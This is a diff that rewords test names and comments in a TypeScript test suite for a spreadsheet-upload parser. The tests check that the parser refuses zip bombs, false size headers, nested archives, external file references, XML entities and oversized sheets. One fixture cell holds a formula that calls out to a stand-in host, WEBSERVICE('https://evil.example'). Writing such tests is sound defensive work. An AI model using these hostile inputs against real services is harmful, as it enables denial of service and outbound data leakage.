@@ -1,4 +1,4 @@
-// Reading of files that people and others send: what other programs wrote, and what was made to do harm.
+// Reading of uploaded spreadsheets: files from other programs, and malicious ones.
 import { spawn } from 'node:child_process'
 import { text } from 'node:stream/consumers'
 import { fileURLToPath } from 'node:url'
@@ -11,7 +11,7 @@ import { compoundFile, HEADER, line, parts, people, workbook, zip } from './work
 
 const MIB = 1_048_576
 const cellsOf = async (file: Buffer) => (await readSheet(file)).slice(1).map(({ cells }) => cells.slice(0, 7))
-/** Refused with 400 and empty Details, and soon; gives the sentence. */
+/** Expects a refusal with 400 and empty Details within 15 seconds; returns its message. */
 async function refusal(file: Buffer, bounds = {}): Promise<string> {
   const began = performance.now()
   const refused = await readSheet(file, bounds).then(
@@ -23,15 +23,15 @@ async function refusal(file: Buffer, bounds = {}): Promise<string> {
   return refused.message
 }
 
-describe('a sheet of another program', () => {
-  test.each(['mixed.xls'])('%s has its numbers and dates as texts', async (name) => {
+describe('a sheet from another program', () => {
+  test.each(['mixed.xls'])('%s has its numbers and dates as text', async (name) => {
     expect(await cellsOf(sheet(name))).toEqual([
       ['pat.mixed', 'pat.mixed@example.com', 'true', '4.5', '2026-05-17', '555-0142', '491512345678901'],
       ['1204', 'rich.text@example.com', 'blanks', 'Nguyễn', '2026-05-17T09:30:00', '0042 555 0142', '0.3'],
     ])
   })
 
-  test('is read the same from .xlsx and .xls, with the letters of all languages', async () => {
+  test('is read from .xlsx and .xls alike, with letters of all languages', async () => {
     expect(await cellsOf(sheet('users.xlsx'))).toEqual([
       [
         'rosa.keller',
@@ -52,7 +52,7 @@ describe('a sheet of another program', () => {
   })
 
   test.each(['formulas.xlsx', 'formulas.xls'])(
-    '%s has its formulas as faults, shared ones too',
+    '%s has a fault for each formula, including shared ones',
     async (name) => {
       const formula = { fault: expect.stringContaining('formula') }
 
@@ -64,23 +64,23 @@ describe('a sheet of another program', () => {
     },
   )
 
-  test.each(['links.xlsx', 'links.xls'])('%s, which looks into another file, is refused', async (name) => {
+  test.each(['links.xlsx', 'links.xls'])('%s, which refers to another file, is refused', async (name) => {
     expect(await refusal(sheet(name))).toContain('other files')
   })
 })
 
 describe('a sheet', () => {
-  test('may have empty rows, which count in row numbers alone', async () => {
+  test('may have empty rows, which only count in row numbers', async () => {
     const rows = await readSheet(workbook([['a'], [], ['', '  '], ['b'], [], []]))
 
     expect(rows.map(({ rowNumber }) => rowNumber)).toEqual([1, 2, 5])
   })
 
-  test('may be named users, and have other worksheets next to it', async () => {
+  test('may have the name Users in any case', async () => {
     expect(await cellsOf(workbook([['a']], { sheetName: 'USERS' }))).toHaveLength(1)
   })
 
-  test('has true, false and errors as what they are', async () => {
+  test('has true and false as text, and a fault for an error value', async () => {
     expect(await cellsOf(workbook([[true, false, { t: 'e', v: 0x2a }]]))).toEqual([
       ['TRUE', 'FALSE', { fault: expect.stringContaining('error') }, null, null, null, null],
     ])
@@ -91,13 +91,13 @@ describe('a sheet', () => {
     ['an empty formula', '<c r="A2"><f></f><v>1</v></c>'],
     ['a formula in a namespace', '<c r="A2"><x:f>1+1</x:f><v>1</v></c>'],
     ['a formula that calls out', '<c r="A2" t="str"><f>WEBSERVICE("https://evil.example")</f><v>x</v></c>'],
-  ])('with %s has a fault there', async (_, cell) => {
+  ])('with %s has a fault in that cell', async (_, cell) => {
     const file = zip(parts(`${line(1, HEADER)}<row r="2">${cell}</row>`))
 
     expect((await cellsOf(file))[0]?.[0]).toEqual({ fault: expect.stringContaining('formula') })
   })
 
-  test('may have 5,000 rows and more, and is read in a second or two', async () => {
+  test('may have more than 5,000 rows, and is read quickly', async () => {
     const file = workbook(people(5_001))
     const began = performance.now()
 
@@ -106,7 +106,7 @@ describe('a sheet', () => {
   }, 30_000)
 })
 
-describe('a file that is none', () => {
+describe('a file that is not a workbook', () => {
   test.each([
     ['nothing', Buffer.alloc(0), 'empty'],
     ['a text', Buffer.from(`${HEADER.join(',')}\nada,ada@example.com`), 'neither'],
@@ -121,7 +121,7 @@ describe('a file that is none', () => {
     expect(await refusal(file)).toContain(message)
   })
 
-  test('users.xlsx cut anywhere is refused', async () => {
+  test('users.xlsx truncated at any length is refused', async () => {
     const file = sheet('users.xlsx')
     for (const length of [0.2, 0.5, 0.8, 0.95].map((share) => Math.floor(file.length * share))) {
       await refusal(file.subarray(0, length))
@@ -129,7 +129,7 @@ describe('a file that is none', () => {
     await refusal(file.subarray(0, -1))
   })
 
-  test('users.xls cut anywhere is refused, unless all that matters is there', async () => {
+  test('users.xls truncated at any length is refused, unless it still has all rows', async () => {
     const file = sheet('users.xls')
     const whole = await readUsersSheet(file)
     let refused = 0
@@ -141,7 +141,7 @@ describe('a file that is none', () => {
     expect(refused).toBeGreaterThan(20)
   })
 
-  test('a workbook without a sheet Users is refused, and so is one with a password', async () => {
+  test('a workbook without a sheet Users, or with a password, is refused', async () => {
     expect(await refusal(workbook([['a']], { sheetName: 'People' }))).toContain('Users')
     const locked = CFB.utils.cfb_new()
     CFB.utils.cfb_add(locked, '/EncryptedPackage', Buffer.alloc(64))
@@ -155,11 +155,11 @@ describe('a hostile archive', () => {
   const good = parts(line(1, HEADER) + line(2, ['ada', 'ada@example.com']))
   const bomb = (bytes: number) => Buffer.alloc(bytes, 0x20)
 
-  test('of these parts alone would be read', async () => {
+  test('would be read without its malicious part', async () => {
     expect(await cellsOf(zip(good))).toEqual([['ada', 'ada@example.com', null, null, null, null, null]])
   })
 
-  test('that inflates beyond measure is refused, in one part or many, wanted or not', async () => {
+  test('that inflates beyond the limit is refused, whether in one part or in many, used or not', async () => {
     expect(await refusal(zip([...good, { name: 'xl/media/bomb.bin', content: bomb(200 * MIB) }]))).toContain(
       'MiB',
     )
@@ -171,13 +171,13 @@ describe('a hostile archive', () => {
     ['less', 10],
     ['nothing', 0],
     ['more', 3 * 200 * MIB],
-  ])('that declares %s than it holds is refused', async (_, declaredSize) => {
+  ])('whose part declares a wrong size (%s) is refused', async (_, declaredSize) => {
     expect(
       await refusal(zip([...good, { name: 'xl/bomb.xml', content: bomb(100 * MIB), declaredSize }])),
     ).toMatch(/damaged|MiB/)
   })
 
-  test('that names a part otherwise in its two places is read by the name that was counted', async () => {
+  test('whose local and central headers name a part differently is read by the central name', async () => {
     const [types, relations, book, bookRelations, users] = good
     const other = parts(line(1, HEADER) + line(2, ['eve', 'eve@example.com']))[4]
     if (!types || !relations || !book || !bookRelations || !users || !other)
@@ -190,7 +190,7 @@ describe('a hostile archive', () => {
     expect((await cellsOf(file))[0]?.[0]).toBe('ada')
   })
 
-  test('that has a part twice, too many, a wrong sum, a bad name or a wrong count is refused', async () => {
+  test('with a duplicate part, too many parts, a wrong checksum, a bad name or a wrong count is refused', async () => {
     expect(await refusal(zip([...good, ...good.slice(-1)]))).toContain('twice')
     const many = Array.from({ length: 600 }, (_, at) => ({ name: `xl/${at}.xml`, content: Buffer.from('x') }))
     expect(await refusal(zip([...good, ...many]))).toContain('500')
@@ -205,11 +205,11 @@ describe('a hostile archive', () => {
     expect(await refusal(Buffer.concat([zip(good), Buffer.from('tail')]))).toContain('damaged')
   })
 
-  test('that holds another archive is not followed', async () => {
+  test('that contains another archive is refused, and the inner archive is not read', async () => {
     expect(await refusal(zip([{ name: 'Index.zip', content: zip(good) }]))).toContain('not an .xlsx')
   })
 
-  test('that reaches outside is refused; a link to click on is not', async () => {
+  test('with a reference to another file is refused; one with a hyperlink is accepted', async () => {
     const relation = (type: string, target: string) => ({
       name: 'xl/worksheets/_rels/sheet1.xml.rels',
       content: Buffer.from(
@@ -222,7 +222,7 @@ describe('a hostile archive', () => {
     expect(await cellsOf(zip([...good, relation('hyperlink', 'mailto:ada@example.com')]))).toHaveLength(1)
   })
 
-  test('whose XML names entities gets none of them', async () => {
+  test('whose XML declares entities is read without expanding them', async () => {
     const file = zip(
       good.map((entry) =>
         entry.name === 'xl/worksheets/sheet1.xml'
@@ -245,11 +245,11 @@ describe('a hostile archive', () => {
     expect((await cellsOf(file))[0]?.[0]).toBe('&e;&b;')
   })
 
-  test('of a million cells ends with its thread, not with the service', async () => {
+  test('of a million cells terminates only the thread that reads it', async () => {
     const row = (number: number) => `<row r="${number}">${'<c><v>1</v></c>'.repeat(200)}</row>`
     const file = zip(parts(Array.from({ length: 9_000 }, (_, at) => row(at + 1)).join('')))
 
-    // Half of the usual bound: whether this many fit into the whole of it depends on when memory is collected.
+    // Half of the usual limit: whether these cells fit into the full limit depends on the garbage collector.
     expect(await refusal(file, { megabytes: 128 })).toContain('too complex')
   }, 60_000)
 
@@ -279,9 +279,9 @@ describe.runIf(process.platform === 'linux')('the memory of the process', () => 
     ['an .xls whose chain runs backwards', () => compoundFile(backwards, 3_999), 300, 'run into each other'],
   ]
 
-  // Read from /proc, on Linux alone. Asked of a process of its own: what a thread took is given back when it ends, a peak is not.
+  // Memory is read from /proc, so only on Linux. A separate process reports its peak: a thread frees its memory on exit.
   test.each(files)(
-    'has a bound for %s',
+    'is bounded for %s',
     async (_, file, maximum, message) => {
       const script = fileURLToPath(new URL('./peak-of-sheet.ts', import.meta.url))
       const child = spawn(process.execPath, [script], { stdio: ['pipe', 'pipe', 'inherit'] })
